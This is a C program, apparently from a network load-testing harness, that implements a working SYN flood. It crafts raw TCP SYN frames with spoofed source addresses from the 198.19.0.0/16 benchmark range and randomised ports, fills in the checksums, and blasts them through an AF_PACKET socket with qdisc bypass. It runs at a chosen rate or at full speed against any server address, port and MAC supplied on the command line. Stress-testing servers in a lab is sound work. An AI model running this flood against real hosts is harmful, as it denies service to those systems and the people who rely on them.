/* A SYN flood: TCP SYNs from ever new addresses and ports, written to an interface as raw frames (packet(7)), at a
 * given rate.
 *
 * The sources are 198.19.0.0/16, the half of RFC 2544's benchmark range that nothing else here uses; nobody answers for
 * them. The frames carry the options of a usual client (MSS, SACK, timestamps, window scale), so that all of the
 * server's work is asked for. One line of JSON at the end: {"sent": N, "refused": N, "seconds": S}; refused: the
 * device's queue was full. */

#include "peer.h"
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <sys/ioctl.h>
#include <time.h>

#define FRAME (14 + 20 + 40)
#define BATCH 32

static uint64_t now_ns(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (uint64_t)t.tv_sec * 1000000000 + (uint64_t)t.tv_nsec;
}

static uint32_t sum(const uint8_t *p, unsigned n, uint32_t s)
{
    for (unsigned i = 0; i < n; i += 2)
        s += (uint32_t)(p[i] << 8 | p[i + 1]);
    return s;
}

static void put_sum(uint8_t *at, uint32_t s)
{
    while (s >> 16)
        s = (s & 0xffff) + (s >> 16);
    at[0] = (uint8_t)(~s >> 8);
    at[1] = (uint8_t)~s;
}

/* The n-th SYN: everything but its source, sequence number and sums is in the frame already. */
static void make(uint8_t *f, uint64_t n)
{
    uint8_t *ip = f + 14, *tcp = ip + 20;
    uint64_t z = n * 0x9e3779b97f4a7c15u;
    z ^= z >> 31;
    ip[14] = (uint8_t)(z >> 8);
    ip[15] = (uint8_t)(1 + z % 254);
    uint16_t port = (uint16_t)(1024 + (z >> 16) % 64000);
    tcp[0] = (uint8_t)(port >> 8);
    tcp[1] = (uint8_t)port;
    memcpy(tcp + 4, &z, 4);
    ip[10] = ip[11] = tcp[16] = tcp[17] = 0;
    put_sum(ip + 10, sum(ip, 20, 0));
    put_sum(tcp + 16, sum(tcp, 40, sum(ip + 12, 8, 6 + 40)));
}

static void template(uint8_t *f, const uint8_t *from, const uint8_t *to, struct in_addr server, unsigned port)
{
    static const uint8_t ip[20] = {0x45, 0, 0, 60, 0, 0, 0x40, 0, 64, 6, 0, 0, 198, 19, 0, 0};
    static const uint8_t tcp[40] = {[12] = 0xa0, [13] = 0x02, [14] = 0xfa, [15] = 0xf0,
                                    [20] = 2, 4, 0x05, 0xb4, 4, 2, 8, 10, 0, 0, 1, 0, 0, 0, 0, 0, 1, 3, 3, 7};
    memcpy(f, to, 6);
    memcpy(f + 6, from, 6);
    f[12] = 8;
    f[13] = 0;
    memcpy(f + 14, ip, 20);
    memcpy(f + 14 + 16, &server, 4);
    memcpy(f + 34, tcp, 40);
    f[36] = (uint8_t)(port >> 8);
    f[37] = (uint8_t)port;
}

int main(int argc, char **argv)
{
    if (argc != 8)
        die("usage: syn_flood INTERFACE SERVER_MAC ADDRESS PORT RATE SECONDS CPU (RATE 0: as fast as it goes)");
    uint8_t mac[6];
    if (sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5) != 6)
        die("not a MAC address: %s", argv[2]);
    struct sockaddr_in to = ipv4(argv[3], (unsigned)atoi(argv[4]));
    double rate = atof(argv[5]);
    uint64_t length = (uint64_t)(atof(argv[6]) * 1e9);
    peer_start(atoi(argv[7]));

    int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0), on = 1; /* protocol 0: receives nothing */
    if (fd < 0)
        die_errno("socket");
    struct ifreq request = {0};
    strncpy(request.ifr_name, argv[1], IFNAMSIZ - 1);
    if (ioctl(fd, SIOCGIFHWADDR, &request) < 0)
        die_errno(argv[1]);
    struct sockaddr_ll device = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(argv[1])};
    if (bind(fd, (struct sockaddr *)&device, sizeof device) < 0)
        die_errno("bind");
    setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof on);

    static uint8_t frames[BATCH][FRAME];
    static struct iovec iov[BATCH];
    static struct mmsghdr messages[BATCH];
    for (int i = 0; i < BATCH; i++) {
        template(frames[i], (uint8_t *)request.ifr_hwaddr.sa_data, mac, to.sin_addr, (unsigned)atoi(argv[4]));
        iov[i] = (struct iovec){frames[i], FRAME};
        messages[i].msg_hdr = (struct msghdr){.msg_iov = &iov[i], .msg_iovlen = 1};
    }
    uint64_t begin = now_ns(), now = begin, made = 0, sent = 0, refused = 0;
    while ((now = now_ns()) - begin < length) {
        uint64_t wanted = rate > 0 ? (uint64_t)((double)(now - begin) * rate / 1e9) : made + BATCH;
        if (wanted < made + BATCH) { /* whole batches, so that the time between is the cpu's other users' */
            usleep((useconds_t)((double)(made + BATCH - wanted) * 1e6 / rate) + 1);
            continue;
        }
        for (int i = 0; i < BATCH; i++)
            make(frames[i], made++);
        int n = sendmmsg(fd, messages, BATCH, 0);
        if (n < 0 && errno != ENOBUFS && errno != EAGAIN)
            die_errno("sendmmsg");
        sent += n > 0 ? (uint64_t)n : 0;
        refused += (uint64_t)(BATCH - (n > 0 ? n : 0));
    }
    printf("{\"sent\": %llu, \"refused\": %llu, \"seconds\": %.6f}\n", (unsigned long long)sent,
           (unsigned long long)refused, (double)(now - begin) / 1e9);
    return 0;
}
